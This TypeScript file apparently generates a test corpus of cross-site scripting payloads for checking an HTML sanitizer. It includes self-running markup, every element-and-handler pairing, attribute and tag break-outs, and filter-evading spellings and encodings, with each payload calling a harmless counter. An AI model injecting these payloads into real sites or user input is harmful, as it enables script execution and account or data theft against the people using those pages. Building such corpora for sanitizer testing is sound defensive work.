/**
 * HTML that wants to run a script, made here rule by rule: what runs by itself, and every element with every handler, each
 * out of the places a careless page would have put it, and in the spellings that get past careless filters. `%` is what
 * it would call; `runs` counts those calls.
 */

/** What a browser runs without anybody's help, once it is markup. Nothing in it asks a network. */
const BY_ITSELF = [
  '<img src=x: onerror=%>',
  '<img src=x: onerror=%//',
  '<image src=x: onerror=%>',
  '<img src="x:"onerror="%">',
  '<img srcset="x: 1x" src=x: onerror=%>',
  '<picture><source srcset=x:><img src=x: onerror=%></picture>',
  '<input type=image src=x: onerror=%>',
  '<input autofocus onfocus=%>',
  '<textarea autofocus onfocus=%></textarea>',
  '<select autofocus onfocus=%></select>',
  '<button autofocus onfocus=%>x</button>',
  '<a href=# autofocus onfocus=%>x</a>',
  '<div contenteditable autofocus onfocus=%>x</div>',
  '<div tabindex=0 autofocus onfocus=%>x</div>',
  '<audio src=x: onerror=%></audio>',
  '<video src=x: onerror=%></video>',
  '<video><source src=x: onerror=%></video>',
  '<audio><source src=x: onerror=%></audio>',
  '<details open ontoggle=%><summary>x</summary></details>',
  '<iframe onload=%></iframe>',
  '<iframe src=about:blank onload=%></iframe>',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.%&lt;/script&gt;"></iframe>',
  '<iframe srcdoc="<img src=x: onerror=parent.%>"></iframe>',
  '<iframe src="javascript:parent.%"></iframe>',
  '<iframe src="java&Tab;script:parent.%"></iframe>',
  '<iframe src="&#106;avascript&colon;parent.%"></iframe>',
  '<iframe src=" JaVaScRiPt:parent.%"></iframe>',
  '<embed src="javascript:%">',
  '<object data="javascript:%"></object>',
  '<object data=x: onerror=%></object>',
  '<style onload=%></style>',
  '<link rel=stylesheet href="data:text/css," onload=%>',
  '<link rel=stylesheet href=x: onerror=%>',
  '<marquee onstart=%>x</marquee>',
  '<svg onload=%>',
  '<svg><animate onbegin=% attributeName=x dur=1s></svg>',
  '<svg><set onbegin=% attributeName=x dur=1s></svg>',
  '<svg><image href=x: onerror=%></image></svg>',
  '<svg><foreignObject><img src=x: onerror=%></foreignObject></svg>',
  '<svg><style><img src=x: onerror=%></style></svg>',
  '<svg><title><img src=x: onerror=%></title></svg>',
  '<math><mtext><img src=x: onerror=%></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x: onerror=%></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x: onerror=%>">',
  '<svg></p><style><a id="</style><img src=x: onerror=%>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=%>',
  '<table><tr><td><img src=x: onerror=%></table>',
  '<template><img src=x: onerror=%></template><img src=x: onerror=%>',
  '<script>%</script>',
  '<script src="data:text/javascript,%"></script>',
  '<script type=module>%</script>',
  '<base href="javascript:/"><a href="%">x</a>',
  '<a href="javascript:%">x</a>',
  '<form action="javascript:%"><button>x</button></form>',
  '<meta http-equiv=refresh content="0;url=javascript:%">',
  '{{constructor.constructor("%")()}}',
];

const ELEMENTS =
  'a abbr article aside audio b bdi body br button canvas center code dialog div fieldset font footer form frameset h1 header hr i iframe img input label li main mark meter nav object ol option p pre progress section select span svg table td template textarea title ul video xss'.split(
    ' ',
  );
const HANDLERS =
  'onabort onanimationend onanimationstart onauxclick onbeforetoggle onblur onchange onclick onclose oncopy oncut ondblclick ondrag onended onerror onfocus onfocusin onformdata oninput oninvalid onkeydown onload onloadstart onmousedown onmouseenter onmousemove onmouseover onpaste onpointerdown onpointerenter onpointerrawupdate onreset onresize onscroll onsecuritypolicyviolation onselect onslotchange onsubmit ontoggle ontouchstart ontransitionend onwheel'.split(
    ' ',
  );

/** Out of an attribute, a title, a comment, a script. */
const BREAK_OUTS = ['', '">', "'>", '</title>', '</textarea>', '--!>', '</script>', ']]>', '</style>', '</noscript>'];

/** As filters do not expect them. */
const SPELLINGS: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (markup) => markup.replace(/\b(on)(\w)/g, (_, _on: string, letter: string) => `oN${letter.toUpperCase()}`),
  (markup) => markup.replace(/<(\w+) /g, '<$1/'),
  (markup) => markup.replace(/<(\w+) /g, '<$1\t'),
  (markup) => markup.replace(/<(\w+) /g, '<$1\n'),
  (markup) => markup.replace(/<(\w+) /g, '<$1\f'),
  (markup) => markup.replace(/<(\w+) /g, '<$1/x="/" '),
  (markup) =>
    markup.replace(/=(hit\(\d+\))/g, '="&#104;it&lpar;$1&rpar;"').replace(/&lpar;hit\((\d+)\)&rpar;/g, '($1)'),
  (markup) => markup.replace(/=(hit\(\d+\))/g, " = '$1'"),
  (markup) => markup.replace(/=(hit\(\d+\))/g, '=`$1`'),
  (markup) => `\u0000${markup}\u0000`,
  (markup) => markup.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (markup) => markup.replace(/</g, '&amp;lt;'),
  (markup) => markup.replace(/</g, '&#x3c;'),
  (markup) => markup.replace(/</g, '\\u003c'),
  (markup) => encodeURIComponent(markup),
];

/** All of them, the `n`th calling `hit(n)`. */
export const markupPayloads: readonly string[] = [...written()].map((write, number) => write(`hit(${number})`));

function* written(): Generator<(call: string) => string> {
  for (const markup of BY_ITSELF) {
    for (const [place, spell] of SPELLINGS.entries()) {
      yield (call) => spell(markup.replaceAll('%', call));
      const out = BREAK_OUTS[1 + (place % (BREAK_OUTS.length - 1))] ?? '';
      yield (call) => out + spell(markup.replaceAll('%', call));
    }
  }
  let turn = 0;
  for (const element of ELEMENTS) {
    for (const handler of HANDLERS) {
      turn += 1;
      const out = BREAK_OUTS[turn % BREAK_OUTS.length] ?? '';
      const spell = SPELLINGS[turn % SPELLINGS.length] ?? String;
      yield (call) => out + spell(`<${element} ${handler}=${call}>x</${element}>`);
    }
  }
}
